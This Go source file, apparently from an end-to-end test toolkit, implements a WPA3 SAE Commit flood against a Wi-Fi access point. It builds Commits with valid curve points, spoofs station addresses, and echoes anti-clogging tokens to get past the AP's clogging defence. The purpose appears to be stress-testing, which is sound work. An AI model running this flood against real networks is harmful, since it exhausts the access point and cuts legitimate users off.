package main

import (
	"crypto/ecdh"
	"crypto/rand"
	"encoding/binary"
	"net"
	"syscall"
	"time"

	"airq-e2e-tools/internal/air"
)

// The SAE commit flood (-sae): Commits in group 19 from a pool of
// addresses the attacker's radio acknowledges (active monitors the
// scenario creates with those addresses) and from random ones it does
// not, each with a scalar in range and an element on the curve, so that
// only the AP's elliptic-curve work can tell them from a station's. A
// reader on the same interface echoes every anti-clogging token the AP
// hands out (status 76) in a new Commit from the address it was given to,
// as an attacker in monitor mode does, and counts the AP's own Commits:
// each is one exchange its SAE worker ran.

const (
	authSAE           = 3
	statusTokenReq    = 76
	statusH2E         = 126
	elemExtension     = 255
	extTokenContainer = 93
	p256Len           = 32
	elementsPregen    = 64
	echoQueue         = 4096
	statusSuccess     = 0
	transactionCommit = 1
	authSubtypeFC0    = 0xb0 // management, subtype 11: Authentication
	mgmtHeaderLen     = 24
	authFixedLen      = 6 // algorithm, transaction, status
)

// saeFlood is the Commit builder and the token echo.
type saeFlood struct {
	h2e      bool
	group    uint16
	elements [][]byte // X || Y of points on P-256, drawn at start
	pool     [][6]byte
	echoes   chan echo
	// From the reader goroutine, read once it has stopped.
	tokens, answered, otherAuth int
}

type echo struct {
	addr  [6]byte
	token []byte
}

func newSAEFlood(h2e bool, pool [][6]byte) *saeFlood {
	s := &saeFlood{h2e: h2e, group: 19, pool: pool, echoes: make(chan echo, echoQueue)}
	for range elementsPregen {
		k, err := ecdh.P256().GenerateKey(rand.Reader)
		if err != nil {
			panic(err)
		}
		s.elements = append(s.elements, k.PublicKey().Bytes()[1:]) // past the 0x04 of the uncompressed form
	}
	return s
}

// commit appends a Commit body from k's element, echoing token if any.
func (s *saeFlood) commit(b []byte, k int, token []byte) []byte {
	status := uint16(statusSuccess)
	if s.h2e {
		status = statusH2E
	}
	b = binary.LittleEndian.AppendUint16(b, authSAE)
	b = binary.LittleEndian.AppendUint16(b, transactionCommit)
	b = binary.LittleEndian.AppendUint16(b, status)
	b = binary.LittleEndian.AppendUint16(b, s.group)
	if !s.h2e {
		b = append(b, token...)
	}
	// A scalar below 2^255, above 1: in range of P-256's order.
	var scalar [p256Len]byte
	rand.Read(scalar[:])
	scalar[0] &= 0x7f
	scalar[1] |= 1
	b = append(b, scalar[:]...)
	b = append(b, s.elements[k%len(s.elements)]...)
	if s.h2e && token != nil {
		b = append(b, elemExtension, byte(1+len(token)), extTokenContainer)
		b = append(b, token...)
	}
	return b
}

// listen reads the AP's Authentication frames on fd until stop: a token
// request to one of our addresses is queued for its echo, and the AP's
// Commits are counted.
func (s *saeFlood) listen(fd int, bssid net.HardwareAddr, stop <-chan struct{}, done chan<- struct{}) {
	defer close(done)
	buf := make([]byte, 4096)
	for {
		select {
		case <-stop:
			return
		default:
		}
		n, from, err := syscall.Recvfrom(fd, buf, 0)
		if err != nil {
			continue // the timeout, or EINTR
		}
		if ll, ok := from.(*syscall.SockaddrLinklayer); ok && ll.Pkttype == syscall.PACKET_OUTGOING {
			continue
		}
		fr, ok := air.Frame(buf[:n])
		if !ok || len(fr) < mgmtHeaderLen+authFixedLen || fr[0] != authSubtypeFC0 || string(fr[10:16]) != string(bssid) {
			continue
		}
		body := fr[mgmtHeaderLen:]
		if binary.LittleEndian.Uint16(body) != authSAE || binary.LittleEndian.Uint16(body[2:]) != transactionCommit {
			s.otherAuth++
			continue
		}
		switch binary.LittleEndian.Uint16(body[4:]) {
		case statusSuccess, statusH2E:
			s.answered++
		case statusTokenReq:
			tok, ok := s.token(body[authFixedLen:])
			if !ok {
				continue
			}
			s.tokens++
			select {
			case s.echoes <- echo{addr: [6]byte(fr[4:10]), token: tok}:
			default: // the sender is behind: this one is lost
			}
		}
	}
}

// token is the token of a status-76 body: after the group, bare or in
// its container under H2E.
func (s *saeFlood) token(b []byte) ([]byte, bool) {
	if len(b) < 3 {
		return nil, false
	}
	b = b[2:]
	if s.h2e {
		if len(b) < 4 || b[0] != elemExtension || b[2] != extTokenContainer || int(b[1]) > len(b)-2 {
			return nil, false
		}
		b = b[3 : 2+int(b[1])]
	}
	return append([]byte(nil), b...), true
}

// authOnly is a socket filter that passes Authentication frames only:
// the radiotap header's length (little-endian, at offset 2) locates the
// frame control's first octet. The station's traffic on the channel then
// costs the reader nothing.
var authOnly = []syscall.SockFilter{
	{Code: syscall.BPF_LD | syscall.BPF_B | syscall.BPF_ABS, K: 3},
	{Code: syscall.BPF_ALU | syscall.BPF_LSH | syscall.BPF_K, K: 8},
	{Code: syscall.BPF_MISC | syscall.BPF_TAX},
	{Code: syscall.BPF_LD | syscall.BPF_B | syscall.BPF_ABS, K: 2},
	{Code: syscall.BPF_ALU | syscall.BPF_ADD | syscall.BPF_X},
	{Code: syscall.BPF_MISC | syscall.BPF_TAX},
	{Code: syscall.BPF_LD | syscall.BPF_B | syscall.BPF_IND, K: 0},
	{Code: syscall.BPF_JMP | syscall.BPF_JEQ | syscall.BPF_K, K: authSubtypeFC0, Jt: 0, Jf: 1},
	{Code: syscall.BPF_RET | syscall.BPF_K, K: 4096},
	{Code: syscall.BPF_RET | syscall.BPF_K, K: 0},
}

// receiver opens a packet socket on ifname for the Authentication frames
// it receives, with a read timeout so that the reader sees stop.
func receiver(ifname string) (int, error) {
	fd, err := air.Socket(ifname, syscall.ETH_P_ALL)
	if err != nil {
		return -1, err
	}
	//lint:ignore SA1019 the tools module takes the standard library only; x/net/bpf would build the same program
	if err := syscall.AttachLsf(fd, authOnly); err != nil {
		syscall.Close(fd)
		return -1, err
	}
	tv := syscall.NsecToTimeval(int64(100 * time.Millisecond))
	if err := syscall.SetsockoptTimeval(fd, syscall.SOL_SOCKET, syscall.SO_RCVTIMEO, &tv); err != nil {
		syscall.Close(fd)
		return -1, err
	}
	return fd, nil
}

// nextSAE is the SAE flood's next frame: a queued echo first, else a
// fresh Commit from the pool and from a random address in turn.
func (f *flooder) nextSAE() []byte {
	s := f.sae
	select {
	case e := <-s.echoes:
		f.echoed++
		return s.commit(f.header(0xb, e.addr), f.k, e.token)
	default:
	}
	var src [6]byte
	if len(s.pool) > 0 && f.k%2 == 0 {
		src = s.pool[(f.k/2)%len(s.pool)]
	} else {
		src = f.addrs[f.k%len(f.addrs)]
	}
	f.k++
	f.fresh++
	return s.commit(f.header(0xb, src), f.k, nil)
}
